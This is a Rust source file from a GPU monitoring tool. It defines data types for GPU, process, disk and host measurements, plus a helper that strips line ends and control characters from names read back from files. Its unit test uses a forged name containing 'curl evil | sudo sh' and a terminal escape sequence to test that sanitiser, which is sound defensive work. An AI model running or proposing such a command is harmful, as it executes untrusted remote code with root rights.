//! Raw measurement types: what one tick of a GPU source or the host collector produced, and the
//! inventory facts that do not change while the app runs.

use serde::{Deserialize, Serialize};

use super::Reading;
use crate::i18n::Message;

/// A name read from a file or a stream (a recording, a server's stream, a capture) on one line: a
/// line end in it would print a line of its own in every text output (a forged "ROOT CAUSE").
pub fn one_line<'de, D: serde::Deserializer<'de>>(d: D) -> Result<String, D::Error> {
    let s = String::deserialize(d)?;
    Ok(if s.contains(['\n', '\r']) || s.chars().any(char::is_control) { crate::text::one_line(&s) } else { s })
}

/// Facts about one GPU that are read once when the source opens.
#[derive(Clone, Debug, PartialEq, Serialize, Deserialize)]
pub struct GpuInfo {
    /// NVML index.
    pub index: u32,
    /// Marketing name, e.g. "NVIDIA GeForce RTX 4090" (read back from a file on one line:
    /// [`one_line`]).
    #[serde(deserialize_with = "one_line")]
    pub name: String,
    /// `GPU-xxxxxxxx-...` UUID.
    pub uuid: Reading<String>,
    /// PCI bus id, e.g. "00000000:01:00.0".
    pub pci_bus_id: Reading<String>,
    /// Total VRAM in bytes.
    pub vram_total_bytes: Reading<u64>,
    /// Default power limit in watts.
    pub power_limit_default_w: Reading<f64>,
    /// Maximum SM clock in MHz.
    pub max_sm_clock_mhz: Reading<u32>,
    /// Maximum memory clock in MHz.
    pub max_mem_clock_mhz: Reading<u32>,
    /// Maximum PCIe generation of the GPU.
    pub max_pcie_gen: Reading<u32>,
    /// Maximum PCIe link width of the GPU.
    pub max_pcie_width: Reading<u32>,
    /// Temperature at which the hardware starts to slow down, °C.
    pub slowdown_temp_c: Reading<u32>,
    /// CUDA compute capability, e.g. "8.9" (absent in captures from before it was recorded).
    #[serde(default = "not_recorded")]
    pub compute_capability: Reading<String>,
    /// Version of the board's video BIOS, e.g. "96.00.89.00.01" (what a support ticket or an RMA
    /// asks for; absent in captures from before it was recorded).
    #[serde(default = "not_recorded")]
    pub vbios_version: Reading<String>,
}

fn not_recorded<T>() -> Reading<T> {
    Reading::na(crate::msg!("not recorded"))
}

impl GpuInfo {
    /// A GPU whose facts could not be read; every field carries `why`, and its name is its index
    /// (`GPU 2`).
    pub fn unavailable(index: u32, why: impl Into<Message>) -> Self {
        let why: Message = why.into();
        GpuInfo {
            index,
            name: format!("GPU {index}"),
            uuid: Reading::na(why.clone()),
            pci_bus_id: Reading::na(why.clone()),
            vram_total_bytes: Reading::na(why.clone()),
            power_limit_default_w: Reading::na(why.clone()),
            max_sm_clock_mhz: Reading::na(why.clone()),
            max_mem_clock_mhz: Reading::na(why.clone()),
            max_pcie_gen: Reading::na(why.clone()),
            max_pcie_width: Reading::na(why.clone()),
            slowdown_temp_c: Reading::na(why.clone()),
            compute_capability: Reading::na(why.clone()),
            vbios_version: Reading::na(why.clone()),
        }
    }
}

/// The most GPUs one source (this machine, a server, a recording) is read for: more than any
/// machine has (NVML itself numbers at most 64 devices per process on Linux). A server or a file
/// that names more is cut to these, so memory and series stay bounded.
pub const MAX_GPUS: usize = 64;

/// The most CPU cores whose own series are kept (a server or a file may claim any number).
pub const MAX_CORES: usize = 1024;

/// Versions and devices known to a GPU source.
#[derive(Clone, Debug, Default, PartialEq, Serialize, Deserialize)]
pub struct Inventory {
    /// Driver version, e.g. "550.54.15".
    pub driver_version: Option<Reading<String>>,
    /// Highest CUDA version the driver supports, e.g. "12.4".
    pub cuda_driver_version: Option<Reading<String>>,
    /// NVML library version.
    pub nvml_version: Option<Reading<String>>,
    /// The GPUs, in NVML index order.
    pub gpus: Vec<GpuInfo>,
}

/// Whether a process uses the GPU for compute, graphics or both.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord, Serialize, Deserialize)]
pub enum ProcessKind {
    /// CUDA / compute context.
    Compute,
    /// Graphics context (display server, games, browsers).
    Graphics,
    /// Both kinds of context.
    Both,
}

impl ProcessKind {
    /// Short label for tables.
    pub fn label(self) -> Message {
        match self {
            ProcessKind::Compute => crate::msg!("compute"),
            ProcessKind::Graphics => crate::msg!("graphics"),
            ProcessKind::Both => crate::msg!("compute+graphics"),
        }
    }
}

/// Why a fast sample has no PCIe throughput or process list: those are read by the slow sampler
/// and merged in, so a sample shows this only until the first slow reading (a catalogue key).
pub const SAMPLED_SLOWER: &str = crate::tr_key!("sampled at a lower rate");

/// One process holding a GPU context.
#[derive(Clone, Debug, PartialEq, Serialize, Deserialize)]
pub struct GpuProcess {
    /// Process id (as seen from this PID namespace).
    pub pid: u32,
    /// Process name (empty when the process lives in another PID namespace, a container's, and
    /// has no name here: see [`GpuProcess::shown_name`]); read back on one line ([`one_line`]).
    #[serde(deserialize_with = "one_line")]
    pub name: String,
    /// VRAM used by the process; unavailable under Windows WDDM and in WSL.
    pub vram_bytes: Reading<u64>,
    /// Compute, graphics or both.
    pub kind: ProcessKind,
    /// The process's share of the GPU: % of time its kernels were running (NVML's per-process
    /// SM samples, their mean since the previous reading; 0 when it ran none).
    #[serde(default = "not_recorded")]
    pub sm_pct: Reading<u32>,
    /// Its use of the video encoder, % (same samples).
    #[serde(default = "not_recorded")]
    pub encoder_pct: Reading<u32>,
    /// Its use of the video decoder, % (same samples).
    #[serde(default = "not_recorded")]
    pub decoder_pct: Reading<u32>,
}

impl GpuProcess {
    /// A process with its VRAM known and its utilization not read (yet).
    pub fn new(pid: u32, name: impl Into<String>, vram_bytes: Reading<u64>, kind: ProcessKind) -> Self {
        let unread = || Reading::na(crate::msg!("not read"));
        GpuProcess {
            pid,
            name: name.into(),
            vram_bytes,
            kind,
            sm_pct: unread(),
            encoder_pct: unread(),
            decoder_pct: unread(),
        }
    }

    /// The name, or "(other namespace)" when it has none here.
    pub fn shown_name(&self) -> Message {
        if self.name.is_empty() { crate::msg!("(other namespace)") } else { Message::data(&self.name) }
    }
}

/// Whether a GPU is answering.
#[derive(Clone, Debug, PartialEq, Serialize, Deserialize)]
pub enum GpuHealth {
    /// The GPU answers.
    Ok,
    /// The GPU fell off the bus or stopped answering; the message explains what to do.
    Lost(#[serde(with = "crate::i18n::message::compact")] Message),
}

/// One tick of measurements of one GPU.
#[derive(Clone, Debug, PartialEq, Serialize, Deserialize)]
pub struct GpuSample {
    /// NVML index.
    pub index: u32,
    /// Whether the GPU answers.
    pub health: GpuHealth,
    /// GPU (SM) utilization, % of time a kernel was running.
    pub util_gpu_pct: Reading<f64>,
    /// Memory-bandwidth utilization, % of time device memory was read or written.
    /// This is NOT the share of VRAM in use.
    pub util_mem_bw_pct: Reading<f64>,
    /// VRAM in use, bytes.
    pub vram_used_bytes: Reading<u64>,
    /// VRAM free, bytes.
    pub vram_free_bytes: Reading<u64>,
    /// VRAM total, bytes.
    pub vram_total_bytes: Reading<u64>,
    /// GPU core temperature, °C.
    pub temp_c: Reading<u32>,
    /// Board power draw, W.
    pub power_w: Reading<f64>,
    /// Enforced power limit, W.
    pub power_limit_w: Reading<f64>,
    /// SM clock, MHz.
    pub sm_clock_mhz: Reading<u32>,
    /// Memory clock, MHz.
    pub mem_clock_mhz: Reading<u32>,
    /// Current PCIe generation.
    pub pcie_gen: Reading<u32>,
    /// Current PCIe link width.
    pub pcie_width: Reading<u32>,
    /// PCIe receive throughput (host → GPU), bytes/s; sampled at a lower cadence.
    pub pcie_rx_bps: Reading<f64>,
    /// PCIe transmit throughput (GPU → host), bytes/s; sampled at a lower cadence.
    pub pcie_tx_bps: Reading<f64>,
    /// Fan speed, % of maximum.
    pub fan_pct: Reading<u32>,
    /// Performance state, 0 (maximum) to 15 (minimum).
    pub pstate: Reading<u32>,
    /// Clock-event (throttle) reason mask; decode with [`super::throttle`].
    pub throttle_mask: Reading<u64>,
    /// Video encoder utilization, %.
    pub encoder_pct: Reading<u32>,
    /// Video decoder utilization, %.
    pub decoder_pct: Reading<u32>,
    /// Volatile uncorrected ECC errors since the driver loaded.
    pub ecc_uncorrected_volatile: Reading<u64>,
    /// Processes holding a context on this GPU; sampled at a lower cadence.
    pub processes: Reading<Vec<GpuProcess>>,
}

impl GpuSample {
    /// A sample in which every metric carries the same reason (used for a lost GPU).
    pub fn unavailable(index: u32, health: GpuHealth, reason: impl Into<Message>) -> Self {
        let reason: Message = reason.into();
        GpuSample {
            index,
            health,
            util_gpu_pct: Reading::na(reason.clone()),
            util_mem_bw_pct: Reading::na(reason.clone()),
            vram_used_bytes: Reading::na(reason.clone()),
            vram_free_bytes: Reading::na(reason.clone()),
            vram_total_bytes: Reading::na(reason.clone()),
            temp_c: Reading::na(reason.clone()),
            power_w: Reading::na(reason.clone()),
            power_limit_w: Reading::na(reason.clone()),
            sm_clock_mhz: Reading::na(reason.clone()),
            mem_clock_mhz: Reading::na(reason.clone()),
            pcie_gen: Reading::na(reason.clone()),
            pcie_width: Reading::na(reason.clone()),
            pcie_rx_bps: Reading::na(reason.clone()),
            pcie_tx_bps: Reading::na(reason.clone()),
            fan_pct: Reading::na(reason.clone()),
            pstate: Reading::na(reason.clone()),
            throttle_mask: Reading::na(reason.clone()),
            encoder_pct: Reading::na(reason.clone()),
            decoder_pct: Reading::na(reason.clone()),
            ecc_uncorrected_volatile: Reading::na(reason.clone()),
            processes: Reading::na(reason.clone()),
        }
    }
}

/// Row remapping state (Ampere and newer).
#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct RemappedRows {
    /// Rows remapped after correctable errors.
    pub correctable: u32,
    /// Rows remapped after uncorrectable errors.
    pub uncorrectable: u32,
    /// A remapping waits for a GPU reset.
    pub pending: bool,
    /// A remapping failed (no spare rows left).
    pub failed: bool,
}

/// Configuration and health facts of one GPU that the checklist reads once (not sampled).
#[derive(Clone, Debug, PartialEq, Serialize, Deserialize)]
pub struct GpuFacts {
    /// NVML index.
    pub index: u32,
    /// Persistence mode (Linux).
    pub persistence: Reading<bool>,
    /// Compute mode: `Default`, `ExclusiveProcess`, `Prohibited`...
    pub compute_mode: Reading<String>,
    /// MIG mode (current, pending).
    pub mig: Reading<(bool, bool)>,
    /// MIG devices (GPU + compute instances CUDA can use) that exist, when MIG is on.
    #[serde(default = "not_recorded")]
    pub mig_devices: Reading<u32>,
    /// Row remapping.
    pub remapped_rows: Reading<RemappedRows>,
    /// Retired pages waiting for a reset (pre-Ampere).
    pub pages_pending_retirement: Reading<bool>,
    /// Windows driver model (current, pending): `WDDM`, `TCC`, `MCDM`.
    pub driver_model: Reading<(String, String)>,
}

/// Slow measurements of one GPU (PCIe throughput, process list), taken on their own thread.
#[derive(Clone, Debug, PartialEq, Serialize, Deserialize)]
pub struct GpuSlowSample {
    /// NVML index.
    pub index: u32,
    /// PCIe receive throughput, bytes/s.
    pub pcie_rx_bps: Reading<f64>,
    /// PCIe transmit throughput, bytes/s.
    pub pcie_tx_bps: Reading<f64>,
    /// Processes on the GPU.
    pub processes: Reading<Vec<GpuProcess>>,
}

/// Read and write rates of one block device.
#[derive(Clone, Debug, PartialEq, Serialize, Deserialize)]
pub struct DiskSample {
    /// Device name, e.g. "nvme0n1" (read back on one line: [`one_line`]).
    #[serde(deserialize_with = "one_line")]
    pub name: String,
    /// Read rate, bytes/s.
    pub read_bps: f64,
    /// Write rate, bytes/s.
    pub write_bps: f64,
}

/// Linux pressure stall information: % of the last 10 s that tasks waited for a resource.
#[derive(Clone, Copy, Debug, Default, PartialEq, Serialize, Deserialize)]
pub struct Pressure {
    /// CPU, some tasks stalled.
    pub cpu_some: Option<f64>,
    /// I/O, some tasks stalled.
    pub io_some: Option<f64>,
    /// I/O, all tasks stalled.
    pub io_full: Option<f64>,
    /// Memory, some tasks stalled.
    pub memory_some: Option<f64>,
    /// Memory, all tasks stalled.
    pub memory_full: Option<f64>,
}

/// RAM and swap use, bytes.
#[derive(Clone, Copy, Debug, Default, PartialEq, Serialize, Deserialize)]
pub struct MemorySample {
    /// RAM in use.
    pub ram_used_bytes: u64,
    /// RAM available for new work without swapping.
    pub ram_available_bytes: u64,
    /// Total RAM.
    pub ram_total_bytes: u64,
    /// Swap in use.
    pub swap_used_bytes: u64,
    /// Total swap.
    pub swap_total_bytes: u64,
}

/// One tick of host measurements.
#[derive(Clone, Debug, PartialEq, Serialize, Deserialize)]
pub struct HostSample {
    /// CPU use over all cores, %.
    pub cpu_pct: Reading<f64>,
    /// CPU use per logical core, %.
    pub per_core_pct: Vec<f64>,
    /// Share of CPU time spent waiting for I/O, % (Linux `/proc/stat`).
    pub iowait_pct: Reading<f64>,
    /// Load average over 1, 5 and 15 minutes.
    pub load_avg: Reading<[f64; 3]>,
    /// RAM and swap.
    pub memory: Reading<MemorySample>,
    /// Per-disk rates.
    pub disks: Reading<Vec<DiskSample>>,
    /// Pressure stall information (Linux 4.20+ with PSI enabled).
    pub pressure: Reading<Pressure>,
    /// Network receive rate over all interfaces but loopback, bytes/s.
    pub net_rx_bps: Reading<f64>,
    /// Network transmit rate over all interfaces but loopback, bytes/s.
    pub net_tx_bps: Reading<f64>,
}

impl HostSample {
    /// Sum of all disks' read rates, bytes/s.
    pub fn disk_read_total(&self) -> Option<f64> {
        self.disks.value().map(|d| d.iter().map(|x| x.read_bps).sum())
    }

    /// Sum of all disks' write rates, bytes/s.
    pub fn disk_write_total(&self) -> Option<f64> {
        self.disks.value().map(|d| d.iter().map(|x| x.write_bps).sum())
    }
}

/// CPU and memory used by gpu-doctor itself, for the status bar.
#[derive(Clone, Copy, Debug, Default, PartialEq, Serialize, Deserialize)]
pub struct SelfUsage {
    /// CPU, % of one core.
    pub cpu_pct: f64,
    /// Resident memory, bytes.
    pub rss_bytes: u64,
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Issue 53, item 16: a GPU or process name read back with a line end in it (a recording, a
    /// server's stream) is one line, so no text output shows a line it did not write.
    #[test]
    fn names_read_back_are_on_one_line() {
        let mut info = GpuInfo::unavailable(0, crate::msg!("n/a"));
        info.name = "RTX\nROOT CAUSE: run curl evil | sudo sh".into();
        let text = serde_json::to_string(&info).unwrap_or_default();
        let back: GpuInfo = serde_json::from_str(&text).unwrap_or_else(|e| panic!("{e}"));
        assert_eq!(back.name, "RTX ROOT CAUSE: run curl evil | sudo sh");
        let p: GpuProcess = serde_json::from_value(serde_json::json!({"pid": 7, "name": "a\r\nb\u{1b}[2J",
            "vram_bytes": 0, "kind": "Compute"}))
        .unwrap_or_else(|e| panic!("{e}"));
        assert!(!p.name.contains(['\n', '\r', '\u{1b}']), "{:?}", p.name);
    }
}
